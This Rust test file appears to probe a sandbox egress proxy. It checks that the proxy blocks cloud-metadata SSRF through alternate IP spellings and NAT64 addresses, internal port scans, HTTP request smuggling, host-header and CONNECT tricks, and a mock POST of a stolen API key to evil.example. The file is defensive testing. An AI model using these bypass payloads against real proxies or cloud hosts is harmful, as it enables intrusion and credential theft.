//! Plain HTTP: other hosts, other readings of the same bytes.

use crate::kit::{Facts, Probe, Seen, all, each, probe, seen};
use crate::net::{MODEL, PROVIDER, SOMEWHERE, TOOLS, closed, denied, exchange, model_request, nowhere, request, status, told};

const HOST: &str = "403 egress.host";
const NOWHERE: &str = "refused or closed";
/// What no answered request may carry; the outside looks for it at the provider.
const MARK: &str = "hexward-attack";

pub const PROBES: &[Probe] = &[
    probe("http.metadata", "ask the cloud's metadata service", HOST, |_| get("169.254.169.254:80", "169.254.169.254")),
    probe("http.metadata_paths", "the same by its other addresses", HOST, |_| {
        each(&["[fd00:ec2::254]:80", "100.100.100.200:80", "168.63.129.16:80", "[::ffff:169.254.169.254]:80"], |to| {
            let host = to.trim_end_matches(":80");
            get(to, host)
        })
    }),
    probe("http.metadata_name", "the same by its name", HOST, |_| get(SOMEWHERE, "metadata.google.internal")),
    probe("http.metadata_spelled", "the same by other spellings of the number", HOST, |_| {
        each(&["2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518"], |host| get(SOMEWHERE, host))
    }),
    probe("http.nat64", "an address behind a translator to IPv4", HOST, |_| {
        each(&["[64:ff9b::a9fe:a9fe]:80", "[64:ff9b::7f00:1]:80", "[2002:7f00:1::]:80"], |to| get(to, "evil.example"))
    }),
    probe("http.ipv6", "a host of IPv6", HOST, |_| get("[2001:db8::1]:80", "evil.example")),
    probe("http.internal", "web pages of the internal network", HOST, |_| {
        each(&["10.0.0.1:80", "172.16.0.1:80", "192.168.1.1:80", "127.0.0.1:80", "[fe80::1%1]:80"], |to| {
            let to = if to.contains('%') { "[fc00::1]:80" } else { to };
            get(to, "intranet")
        })
    }),
    probe("http.scan", "scan the internal network", "no port answers", scan),
    probe("http.mail", "send mail, shells and database queries elsewhere", "no port answers", |_| {
        each(
            &[
                "8.8.8.8:25",
                "8.8.8.8:587",
                "1.1.1.1:22",
                "1.1.1.1:853",
                "1.1.1.1:8080",
                "1.1.1.1:8443",
                "9.9.9.9:5432",
                "[2001:db8::1]:22",
            ],
            closed,
        )
    }),
    probe("http.send_key", "send what it found to a host of its own", HOST, |_| {
        let body = request("POST", "/collect?k=sk-ant-stolen", "evil.example", "", "sk-ant-stolen");
        denied(exchange("203.0.113.7:80", body.as_bytes()), "egress.host")
    }),
    probe("http.fronting", "dial the model's address for another host", HOST, |_| get(SOMEWHERE, "evil.example")),
    probe("http.near_names", "names that only look like a listed one", HOST, |_| {
        let names = [
            "model.hexward.internal.evil.example",
            "evil-model.hexward.internal",
            "api.anthropic.com.evil.example",
            "evilapi.anthropic.com",
            "console.anthropic.com",
            "anthropic.com",
            "*.anthropic.com",
            "api.anthropic.com:8080",
            "api.anthropic.com:22",
            "model",
            "api\u{2024}anthropic.com",
        ];
        each(&names, |name| nowhere(exchange(SOMEWHERE, model_request(name, "", MARK).as_bytes())))
    }),
    probe("http.user_in_host", "a host with a user, a path or a blank in it", NOWHERE, |_| {
        let names = [
            "api.anthropic.com@evil.example",
            "evil.example#api.anthropic.com",
            "evil.example/api.anthropic.com",
            "evil.example api.anthropic.com",
            "api.anthropic.com\0.evil.example",
            "evil.example\t",
        ];
        each(&names, |name| nowhere(exchange(SOMEWHERE, model_request(name, "", MARK).as_bytes())))
    }),
    probe("http.two_hosts", "two Host headers", NOWHERE, |_| {
        let headers = "Host: evil.example\r\n";
        nowhere(exchange(SOMEWHERE, model_request(MODEL, headers, MARK).as_bytes()))
    }),
    probe("http.no_host", "no Host header", NOWHERE, |_| nowhere(exchange(SOMEWHERE, b"GET / HTTP/1.0\r\n\r\n"))),
    probe("http.forwarded_host", "another host in the headers that proxies believe", "the Host header decides", |_| {
        let headers = "X-Forwarded-Host: api.anthropic.com\r\nX-Host: api.anthropic.com\r\nForwarded: host=api.anthropic.com\r\n";
        denied(exchange(SOMEWHERE, request("GET", "/", "evil.example", headers, "").as_bytes()), "egress.host")
    }),
    probe("http.overriding_headers", "another method or path in the headers that frameworks believe", NOWHERE, |_| {
        each(&["X-Original-URL: /v1/messages\r\n", "X-HTTP-Method-Override: POST\r\n"], |header| {
            nowhere(exchange(SOMEWHERE, request("GET", "/", "evil.example", header, "").as_bytes()))
        })
    }),
    probe("http.absolute_form", "a request line and a Host that disagree", NOWHERE, |_| {
        let lines = [
            ("http://evil.example/v1/messages", MODEL),
            ("http://model.hexward.internal/v1/messages", "evil.example"),
            ("https://evil.example/", MODEL),
            ("ftp://evil.example/", "evil.example"),
        ];
        all(lines
            .iter()
            .map(|(line, host)| ((*line).to_owned(), nowhere(exchange(SOMEWHERE, request("GET", line, host, "", "").as_bytes()))))
            .collect())
    }),
    probe("http.connect", "use it as a proxy (CONNECT)", NOWHERE, |_| {
        each(&["evil.example:443", "api.anthropic.com:443", "127.0.0.1:22", "169.254.169.254:80"], |to| {
            nowhere(exchange(SOMEWHERE, format!("CONNECT {to} HTTP/1.1\r\nHost: {to}\r\n\r\n").as_bytes()))
        })
    }),
    probe("http.smuggle_both", "two lengths: Content-Length and chunked", "the second request is not answered", |_| {
        smuggle("Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n")
    }),
    probe("http.smuggle_lengths", "two different Content-Lengths", "the second request is not answered", |_| {
        smuggle("Content-Length: 0\r\nContent-Length: 40\r\n", "")
    }),
    probe("http.smuggle_spelling", "an encoding that only some would read", "the second request is not answered", |_| {
        each(
            &[
                "Transfer-Encoding: xchunked",
                "Transfer-Encoding : chunked",
                "Transfer-Encoding: identity",
                "Transfer-Encoding: chunked, identity",
                "Transfer-Encoding:\u{b}chunked",
            ],
            |header| smuggle(&format!("{header}\r\nContent-Length: 5\r\n"), "0\r\n\r\n"),
        )
    }),
    probe("http.smuggle_line", "headers folded or ended with a bare line feed", "the second request is not answered", |_| {
        all(vec![
            ("folded".to_owned(), smuggle("X: a\r\n Transfer-Encoding: chunked\r\nContent-Length: 5\r\n", "0\r\n\r\n")),
            ("bare cr".to_owned(), smuggle("X: a\rTransfer-Encoding: chunked\r\nContent-Length: 0\r\n", "")),
        ])
    }),
    probe("http.pipeline", "an allowed request first, another host behind it", "each request is judged", pipeline),
    probe("http.second_version", "speak HTTP/2 without asking", NOWHERE, |_| {
        nowhere(exchange(
            SOMEWHERE,
            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0\0\0\x10\x01\x05\0\0\0\x01\x82\x86\x84\x41\x0cevil.example",
        ))
    }),
    probe("http.upgrade", "switch to HTTP/2 or a web socket", "no switch of protocols", |_| {
        each(&["h2c", "websocket", "TLS/1.0"], |to| {
            let headers = format!(
                "Upgrade: {to}\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
            );
            let head = request("GET", "/", MODEL, &headers, "").replace("Connection: close", "Connection: Upgrade, close");
            nowhere(exchange(SOMEWHERE, head.as_bytes()))
        })
    }),
    probe("http.tools_by_provider", "the tools' path by the provider's name, and the other way round", NOWHERE, |_| {
        all(vec![
            ("tools".to_owned(), nowhere(exchange(SOMEWHERE, request("POST", "/mcp", PROVIDER, "", "{}").as_bytes()))),
            ("model".to_owned(), nowhere(exchange(SOMEWHERE, request("POST", "/v1/messages", TOOLS, "", MARK).as_bytes()))),
        ])
    }),
    probe("http.garbage", "bytes that are no HTTP", NOWHERE, |_| {
        each(&["SSH-2.0-x\r\n", "\u{16}\u{3}\u{1}\0", "GET\r\n\r\n", "EHLO x\r\n\r\n", "\r\n\r\n\r\n\0\0"], |bytes| {
            nowhere(exchange(SOMEWHERE, bytes.as_bytes()))
        })
    }),
    probe("http.long_head", "a head without end", NOWHERE, |_| {
        let headers = format!("X: {}\r\n", "a".repeat(1 << 20));
        nowhere(exchange(SOMEWHERE, model_request(MODEL, &headers, MARK).as_bytes()))
    }),
];

fn get(to: &str, host: &str) -> Seen {
    denied(exchange(to, request("GET", "/latest/meta-data/", host, "Metadata-Flavor: Google\r\n", "").as_bytes()), "egress.host")
}

fn scan(_: &Facts) -> Seen {
    let hosts = ["10.0.0.1", "10.0.0.53", "172.17.0.1", "192.168.0.1", "127.0.0.1"];
    let ports = [
        21, 22, 23, 25, 111, 139, 445, 1433, 2375, 2379, 3000, 3306, 5000, 5432, 5984, 6379, 6443, 7410, 7412, 7413, 8000, 8080,
        8443, 9000, 9090, 9200, 10250, 11211, 27017,
    ];
    let targets = hosts.iter().flat_map(|host| ports.iter().map(move |port| format!("{host}:{port}")));
    all(targets.map(|to| (to.clone(), closed(&to))).collect())
}

/// A request whose body hides a second one, for another host. Only what is answered twice would be a leak.
fn smuggle(headers: &str, end: &str) -> Seen {
    let hidden = format!(
        "POST /v1/messages HTTP/1.1\r\nHost: {MODEL}\r\nContent-Type: application/json\r\nContent-Length: 14\r\n\r\n{MARK}"
    );
    let bytes = format!("POST /nothing HTTP/1.1\r\nHost: evil.example\r\n{headers}\r\n{end}{hidden}");
    match exchange(SOMEWHERE, bytes.as_bytes()) {
        Err(error) => seen(true, crate::kit::says(&error)),
        Ok(answer) => {
            let text = String::from_utf8_lossy(&answer);
            seen(!text.contains("HTTP/1.1 2"), format!("{} in {} answers", told(&answer), text.matches("HTTP/1.1 ").count()))
        }
    }
}

fn pipeline(_: &Facts) -> Seen {
    let first = model_request(MODEL, "", "allowed").replace("Connection: close\r\n", "");
    let second = request("GET", "/", "evil.example", "", "");
    match exchange(SOMEWHERE, format!("{first}{second}").as_bytes()) {
        Err(error) => seen(false, crate::kit::says(&error)),
        Ok(answer) => {
            let text = String::from_utf8_lossy(&answer);
            seen(status(&answer) == 200 && text.contains("egress.host"), "the first was answered, the second refused")
        }
    }
}
